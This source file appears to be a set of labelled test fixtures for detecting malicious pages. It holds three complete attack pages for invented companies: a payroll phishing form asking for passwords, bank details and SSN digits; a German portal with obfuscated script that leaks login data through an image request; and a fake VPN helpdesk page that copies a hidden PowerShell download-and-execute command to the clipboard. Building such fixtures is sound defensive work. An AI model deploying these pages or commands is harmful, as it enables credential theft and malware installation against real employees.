import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { fileRoute, jsRoute, jsonRoute, pe, pngRoute, zip } from '../parts/e-bin.js';
import { analytics, b64, cssApp, cssPlain, doc, icon } from '../parts/q-kit.js';

// Payroll / HR portals of invented companies and fake IT helpdesks (malicious).

export const entries: Entry[] = [
{
  id: 'q-phish-hr-direct-deposit-change',
  label: 'phishing',
  kind: 'payroll-portal',
  url: 'https://myhr-ridgewaylogistics.com/deposit',
  body: doc({
    title: 'Direct deposit',
    css: cssApp('#0369a1'),
    body: `<div class="wrap"><div class="box">
<h1>Direct deposit verification</h1>
<p>Ridgeway Logistics is moving payroll providers. Confirm your details so your next paycheck is not delayed.</p>
<form id="f">
<label>Employee ID</label><input name="eid" required>
<label>Work email</label><input name="email" type="email" required>
<label>Password</label><input name="password" type="password" required>
<label>Routing number</label><input name="routing" inputmode="numeric" maxlength="9">
<label>Account number</label><input name="acct" inputmode="numeric">
<label>Last 4 of SSN</label><input name="ssn4" maxlength="4" inputmode="numeric">
<button>Submit</button></form>
<div class="sub">Questions: payroll@ridgewaylogistics.com</div></div></div>
<script>document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();fetch('https://myhr-ridgewaylogistics.com/api/dd',{method:'POST',body:new FormData(this)}).then(function(){document.querySelector('.box').innerHTML='<h1>Thank you</h1><p>Your information has been received.</p>'})});</script>`,
  }),
  routes: { 'myhr-ridgewaylogistics.com/api/dd': jsonRoute({ status: 'received' }) },
},
{
  id: 'q-phish-lohnabrechnung-de-script',
  label: 'phishing',
  kind: 'payroll-portal',
  url: 'https://mitarbeiter-portal-hagedorn.de/lohn/',
  body: doc({
    lang: 'de',
    title: 'Mitarbeiterportal',
    css: cssApp('#166534'),
    body: `<div class="wrap"><div class="box" id="app"></div></div>
<script src="/lohn/app.js"></script>`,
  }),
  routes: {
    'mitarbeiter-portal-hagedorn.de/lohn/app.js': jsRoute(`(function(){var t=JSON.parse(atob("${b64(JSON.stringify({ h: 'Ihre Lohnabrechnung November', p: 'Die Abrechnung steht bereit. Aus Datenschutzgründen melden Sie sich bitte mit Ihren Windows-Zugangsdaten an.', u: 'Benutzername oder E-Mail', k: 'Kennwort', b: 'Abrechnung öffnen' }))}"));
var a=document.getElementById('app');a.innerHTML='<h1>'+t.h+'</h1><p>'+t.p+'</p><label>'+t.u+'</label><input id="u"><label>'+t.k+'</label><input id="k" type="password"><button id="s">'+t.b+'</button><div class="err" id="e"></div><div class="sub">Hagedorn Maschinenbau GmbH · Personalabteilung</div>';
document.getElementById('s').onclick=function(){var i=new Image();i.src='/lohn/px.gif?u='+encodeURIComponent(document.getElementById('u').value)+'&k='+encodeURIComponent(document.getElementById('k').value);document.getElementById('e').textContent='Sitzung abgelaufen – bitte erneut anmelden.';};})();`),
    'mitarbeiter-portal-hagedorn.de/lohn/px.gif': pngRoute(255, 255, 255),
  },
},
{
  id: 'q-clickfix-helpdesk-vpn-repair',
  label: 'clickfix',
  kind: 'fake-helpdesk',
  url: 'https://support-desk-remote.net/kb/vpn-fix',
  body: doc({
    title: 'VPN connection repair',
    css: cssPlain('#0f172a') + 'code{display:block;background:#111;color:#0f0;padding:12px;border-radius:4px;font-size:13px;word-break:break-all}',
    body: `<header class="top"><span class="name">Remote Support</span><span class="muted">Knowledge base</span></header>
<main><div class="card">
<h2 style="margin-top:0">Fix: VPN drops after the latest update (error 809)</h2>
<p>Several staff have reported the VPN disconnecting since last night. The network team has published a one-line repair that resets the adapter and reinstalls the profile.</p>
<ol><li>Click <b>Copy fix</b> below.</li><li>Press <b>Windows + R</b>.</li><li>Paste with <b>Ctrl + V</b> and press <b>Enter</b>.</li></ol>
<button id="cp">Copy fix</button> <span id="ok" class="ok"></span>
<p class="muted">The window will close on its own when the repair finishes (about 30 seconds).</p></div></main>
<footer>If the problem persists, call the service desk.</footer>
<script>
var c='powershell -nop -w hidden -c "$u=\\'https://support-desk-remote.net/kb/r.ps1\\';iex(New-Object Net.WebClient).DownloadString($u)" # VPN profile reset 809';
document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(c).then(function(){document.getElementById('ok').textContent='Copied. Now press Win+R, Ctrl+V, Enter.'});};
</script>`,
  }),
  routes: { 'support-desk-remote.net/kb/r.ps1': fileRoute('Start-Process -WindowStyle Hidden "$env:TEMP\\svc.exe"', 'text/plain') },
},
];
